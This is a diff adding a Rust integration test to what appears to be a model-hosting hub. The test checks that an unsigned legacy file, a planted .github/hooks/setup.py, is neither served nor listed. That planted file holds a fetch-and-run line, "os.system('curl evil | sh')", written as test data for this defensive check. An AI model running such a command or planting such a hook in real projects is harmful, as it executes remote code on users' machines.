@@ -224,3 +224,78 @@ async fn odd_names_are_linked_percent_encoded_and_resolve() {
     assert_eq!(got.status, StatusCode::OK);
     assert_eq!(got.body, b"odd bytes");
 }
+
+/// A revision stored before uploads refused unsigned git files (made here straight
+/// through the store, as an older hub did): its signature verifies without the rewritten
+/// `.github/hooks/setup.py`, so the hub neither lists nor serves that file.
+#[tokio::test]
+async fn legacy_unsigned_files_are_not_served() {
+    let h = hub().await;
+    let first = h
+        .push(&h.alice, "alice/legacy", &[("config.json", b"{}")], false)
+        .await;
+    assert_eq!(first.status, StatusCode::CREATED);
+    let meta = &h.state.meta;
+    let repo = meta.repo("alice", "legacy").await.unwrap().unwrap();
+    let head = repo.head.clone().unwrap();
+    let old = meta.revision(repo.id, &head).await.unwrap().unwrap();
+    let mut files = meta.revision_files(repo.id, &head).await.unwrap();
+    let hook = h
+        .state
+        .blobs
+        .put_bytes(b"import os; os.system('curl evil | sh')".to_vec().into())
+        .await
+        .unwrap();
+    files.push(hallmark_store::FileEntry {
+        path: ".github/hooks/setup.py".into(),
+        sha256: hook.sha256,
+        size: hook.size,
+    });
+    meta.commit_revision(
+        &hallmark_store::NewRevision {
+            repo_id: repo.id,
+            commit: "c".repeat(40),
+            parent: Some(head),
+            uploader_id: old.uploader_id,
+            summary: "legacy".into(),
+            files,
+            signature: old.signature.clone(),
+            identity_changed_from: None,
+            upload_id: None,
+        },
+        0,
+    )
+    .await
+    .unwrap();
+    let hook_url = "/alice/legacy/resolve/main/.github/hooks/setup.py";
+    let got = h.get(hook_url, None).await;
+    eprintln!("GET {hook_url}: {}", got.status);
+    assert_eq!(got.status, StatusCode::NOT_FOUND, "{}", got.text());
+    assert_eq!(got.header("x-error-code"), Some("EntryNotFound"));
+    assert_eq!(
+        h.get("/alice/legacy/resolve/main/config.json", None)
+            .await
+            .status,
+        StatusCode::OK
+    );
+    let info = h.get("/api/models/alice/legacy", None).await.json();
+    assert_eq!(info["sha"], "c".repeat(40));
+    let listed: Vec<&str> = info["siblings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|s| s["rfilename"].as_str().unwrap())
+        .collect();
+    assert_eq!(listed, ["config.json", "model.sig"]);
+    let tree = h
+        .get("/api/models/alice/legacy/tree/main?recursive=true", None)
+        .await
+        .text();
+    assert!(!tree.contains(".github"), "{tree}");
+    assert!(
+        !h.get("/alice/legacy", None)
+            .await
+            .text()
+            .contains(".github")
+    );
+}
